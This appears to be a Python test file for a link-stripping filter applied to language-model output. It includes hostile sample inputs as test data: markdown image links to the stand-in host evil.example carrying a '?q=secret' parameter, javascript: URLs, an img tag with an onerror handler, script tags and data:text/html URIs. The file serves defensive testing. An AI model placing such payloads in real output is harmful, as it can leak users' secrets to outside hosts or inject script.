"""What leads elsewhere does not get through, however it is spelled and cut; what is only text does."""

import random
import re

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st
from markdown_it import MarkdownIt

from services.llm.citations import parse_citations
from services.llm.links import LinkFilter, without_links

EVIL = "evil.example"
LEADS = re.compile(
    r"(?i)\]\(|\]:|[a-z]://|(?<![a-z0-9])www\.[a-z0-9]|<[a-z/!?]|\b(?:javascript|vbscript):\w|\bdata:[a-z]*/"
)


@pytest.mark.parametrize(
    ("text", "left"),
    [
        (f"![p](https://{EVIL}/?q=secret) so", "![p] so"),
        (f"See [here](http://{EVIL}).", "See [here]."),
        (f"[1:02](https://{EVIL}) [3:04]", "[1:02] [3:04]"),
        (f'[a](<https://{EVIL}> "title")', '[a] ( "title")'),
        ("[a](//x/y) ![b](/logout) [c](data:text/html;base64,AA=)", "[a] ![b] [c]"),
        (f"[a](https://{EVIL}/(x)y) z", "[a] (https:/\u2026(x)y) z"),
        ("[a](javascript:alert) b", "[a] b"),
        ("[a](&#106;avascript:alert) b", "[a] b"),
        (f"[a][b]\n\n[b]: https://{EVIL}/x 'title'", "[a][b]\n\n[b] : https:/\u2026 'title'"),
        (f"<https://{EVIL}> <me@{EVIL}> <javascript:x>", "  "),
        (f"<a href='https://{EVIL}'>text</a>", "text"),
        (f'<img\nsrc="//{EVIL}/x" onerror=alert(1)>', ""),
        ("<script>alert(1)</script><!-- x --><b>bold</b><br/>", "alert(1)bold"),
        (f"see https://{EVIL}/?q=secret now", "see https:/\u2026 now"),
        (f"WWW.{EVIL}/x HTTPS://{EVIL} ftp://{EVIL}.", "WWW.\u2026 HTTPS:/\u2026 ftp:/\u2026"),
        (f"`![p](https://{EVIL})` and\n```\n<img src=//{EVIL}>\n```", "`![p]` and\n```\n\n```"),
        ("h<b>ttps</b>://x.y <<b>img src=x>", "https:/\u2026 < img src=x>"),
        ("[a](http://x)(http://y)[b]<b>(//z)", "[a][b]"),
        ("javascript:alert", "javascript:\u2026"),
        ("data:text/html;base64,AAAA", "data:text\u2026"),
        ("<a href=x", "< a href=x"),
        ("[a](https://x", "[a] (https:/\u2026"),
    ],
)
def test_targets_go_and_texts_stay(text: str, left: str) -> None:
    assert without_links(text) == left


@pytest.mark.parametrize(
    "text",
    [
        *("a < b and c > d", "a <- b, i<3, x <= y << z", "[12:34]", "**Bold** [1:02, 3:04]. (See above.)"),
        *(
            "- [x] done\n- [ ] not",
            "f(x)[1]",
            "array[0] (first)",
            "Data: the facts",
            "http: a protocol",
        ),
        *(
            "The ratio is 3:4 // a remark",
            "a\n\n> quote\n\n1. one\n",
            "www. is short for",
            "e.g. x.y",
            "```py\nif a < b: pass\n```",
        ),
        "\N{LEFT DOUBLE QUOTATION MARK}The Moon pulls.\N{RIGHT DOUBLE QUOTATION MARK} [7:03]",
    ],
)
def test_what_is_only_text_stays_as_it_is(text: str) -> None:
    assert without_links(text) == text


@pytest.mark.parametrize(
    ("text", "left"),
    [
        ("x[1](y)", "x[1] (y)"),
        ("x<y and z>w", "x< y and z>w"),
        ("List<String> of", "List< String> of"),
        ("[0:10]: The moon", "[0:10] : The moon"),
        ("So [1:02]: this", "So [1:02] : this"),
        (f"Term\n: [y]: //{EVIL}", f"Term\n: [y] : //{EVIL}"),
        (f"[^1]: //{EVIL}", f"[^1] : //{EVIL}"),
    ],
)
def test_what_may_be_text_is_taken_apart_and_not_lost(text: str, left: str) -> None:
    assert without_links(text) == left


@pytest.mark.parametrize("end", ["\r\n", *"\n\r\x0b\x0c\x1c\x1d\x1e\x85\u2028\u2029"])
def test_every_end_of_a_line_is_one(end: str) -> None:
    links = LinkFilter()
    text = f"x{end}[y]: //{EVIL}{end}{end}![y]"
    left = f"x\n[y] : //{EVIL}\n\n![y]"
    assert without_links(text) == left
    assert "".join(links.feed(character) for character in text) + links.end() == left


def test_a_parser_finds_nothing_that_leads_elsewhere() -> None:
    """In mixtures of all that means something to it."""
    choices = random.Random(SEED)  # noqa: S311  no secret
    for _ in range(MIXTURES):
        text = "".join(choices.choice(MARKS) for _ in range(choices.randint(4, 22)))
        left = without_links(text)
        tokens = [inner for token in GITHUB.parse(left) for inner in (token, *(token.children or []))]
        assert not LEADING.intersection(token.type for token in tokens), (text, left)


def test_words_are_not_held_back() -> None:
    links = LinkFilter()
    pieces = ["The", " Moon", " [7:", "03]", " a <", " b", " [x](", "y)", " https", ":", "/", "!"]
    let_out = ["The", " Moon", " [7:", "03]", " a ", "< b", " [x]", " (y)", " https", ":", "/", "!"]
    assert [links.feed(piece) for piece in pieces] == let_out
    assert links.end() == ""


def test_what_is_held_back_has_an_end() -> None:
    links = LinkFilter()
    let_out = links.feed("[a](" + "x" * 5_000)
    assert len(let_out) > 3_000
    assert without_links("[a](" + "x" * 5_000) == "[a] (" + "x" * 5_000


SEED, MIXTURES = 3, 4_000
GITHUB = MarkdownIt("commonmark").enable(["table", "strikethrough"])
LEADING = {"link_open", "image", "html_block", "html_inline"}
MARKS = [
    *("[", "]", "(", ")", "<", ">", "!", ":", "|", "'", '"', "\\", "`", "=", "//", "/", "- ", "> ", "1. ", "# "),
    *(" ", "    ", "\t", "\n", "\r", "\r\n", "\x0b", "\x0c", "\x85", "\u2028", "\u00a0", "~~~\n", "---\n"),
    *("x", "y", "//e.co", "http", "img src=", "a href=", "![y]", "[y]: ", "[y]", "&#58;", "&colon;"),
]
PARTS = st.sampled_from(
    [
        *("[", "]", "(", ")", "<", ">", ":", "/", "\\", "!", "\n", " ", "`", "*", '"', "'", "=", "a", "b", "1:02"),
        *(
            "https",
            "http://",
            "://",
            "www",
            "www.",
            ".",
            "javascript",
            "data",
            "text/",
            "img src=",
            "](",
            "]:",
            "</a>",
            "\u00e9",
        ),
    ]
)
TEXTS = st.lists(PARTS, max_size=30).map("".join)


@settings(max_examples=500)
@given(TEXTS)
def test_nothing_leads_elsewhere(text: str) -> None:
    assert LEADS.search(without_links(text)) is None, without_links(text)


@settings(max_examples=300)
@given(st.lists(PARTS, max_size=30), st.lists(st.integers(0, 200), max_size=8))
def test_it_does_not_matter_where_it_is_cut(parts: list[str], cuts: list[int]) -> None:
    text = "".join(parts)
    links, last, out = LinkFilter(), 0, ""
    for cut in [*sorted(cuts), len(text)]:
        out += links.feed(text[last:cut])
        last = max(last, cut)
    assert out + links.end() == without_links(text)


@settings(max_examples=300)
@given(TEXTS)
def test_what_went_through_once_goes_through_again(text: str) -> None:
    once = without_links(text)
    assert LEADS.search(without_links(once)) is None


@settings(max_examples=200)
@given(st.text(alphabet="ab .,!?\n[]123:-*_#>", max_size=80))
def test_citations_are_the_same_after_it(text: str) -> None:
    assert parse_citations(without_links(text)) == parse_citations(text)


@pytest.mark.parametrize("text", ["](<", "<a", "](", "<", "](((((", "[a](x ", "<a href='"])
def test_hostile_text_costs_no_more_than_its_length(text: str) -> None:
    assert LEADS.search(without_links(text * 10_000)) is None
